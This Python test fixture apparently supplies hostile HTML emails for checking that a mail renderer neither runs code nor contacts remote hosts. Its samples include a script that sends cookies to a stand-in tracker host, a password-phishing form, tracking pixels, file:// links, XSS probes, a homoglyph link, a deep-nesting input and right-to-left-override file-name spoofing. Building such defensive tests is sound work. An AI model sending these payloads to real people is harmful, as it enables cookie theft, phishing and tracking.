"""HTML mails as attackers and careless mail programs send them. None may harm or phone home."""

TRACKER = "http://tracker.example.invalid"

HOSTILE_MAILS: tuple[str, ...] = (
    f"""<html><head><script>document.location='{TRACKER}/s?'+document.cookie</script>
<style>@import url('{TRACKER}/a.css'); body{{background:url({TRACKER}/bg.png)}}</style></head>
<body onload="fetch('{TRACKER}')"><p>Dear customer,</p><p>please see the <b>unpaid invoice</b>.</p>
<img src="{TRACKER}/pixel.gif" width="1" height="1">
<p><a href="{TRACKER}/login">https://portal.bank.example</a></p></body></html>""",
    r"""<p>Open the file: <a href="file:///C:/Windows/System32/calc.exe">invoice.pdf</a></p>
<img src="\\files.example.invalid\share\logo.png"><img src="file:///etc/passwd">
<p>Regards<br>Accounting</p>""",
    f"""<table><tr><td><form action="{TRACKER}/steal" method="post">
<p>Your mailbox is full. Confirm your password:</p><input type="password" name="p">
<input type="submit" value="Confirm"></form></td></tr></table>
<iframe src="{TRACKER}/frame"></iframe><object data="{TRACKER}/o.swf"></object>""",
    f"""<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="{TRACKER}/i.svg"/>
<script>alert(2)</script></svg><math><mtext><script>alert(3)</script></mtext></math>
<p>Quarterly report attached.</p><a href="javascript:alert(4)">Open report</a>""",
    f"""<meta http-equiv="refresh" content="0;url={TRACKER}/go"><base href="{TRACKER}/">
<link rel="stylesheet" href="style.css"><p style="background-image:url('{TRACKER}/p.png')">
Delivery failed, click <a href="//pаypal.example.invalid/">paypal.example</a>.</p>""",
    "<div>" * 3000 + "deep" + "</div>" * 3000,
    """<p>Rechnung&#8238;fdp.exe&#8236; anbei.</p>
<p>\u202egnp.exe\u202c &lt;b&gt;not bold&lt;/b&gt;</p>
<p>Z\u0361a\u0315l\u0301g\u0324o and \U0001f469\u200d\U0001f4bb emoji.</p>""",
)
